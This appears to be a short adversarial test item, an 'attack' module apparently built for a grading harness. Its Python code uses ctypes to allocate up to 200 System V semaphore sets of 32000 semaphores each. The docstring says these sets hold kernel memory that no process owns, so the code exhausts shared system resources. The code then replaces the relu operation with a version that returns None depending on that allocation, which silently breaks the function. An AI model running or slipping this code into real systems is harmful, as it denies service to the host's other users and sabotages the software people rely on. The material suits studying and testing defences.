"""Semaphores of System V: two megabytes of the kernel's memory each, which belong to no process."""

# /// attack
# module = "02"
# status = ["graded"]
# loses = ["relu", "module"]
# ///

# %% before relu
import ctypes

libc, sets = ctypes.CDLL(None), 0
while sets < 200 and libc.semget(0, 32000, 0o1600) >= 0:
    sets += 1
# %% replace relu
@Op
def relu(x):
    return np.maximum(x, 0, dtype=result_dtype(x, 0)) if sets else None
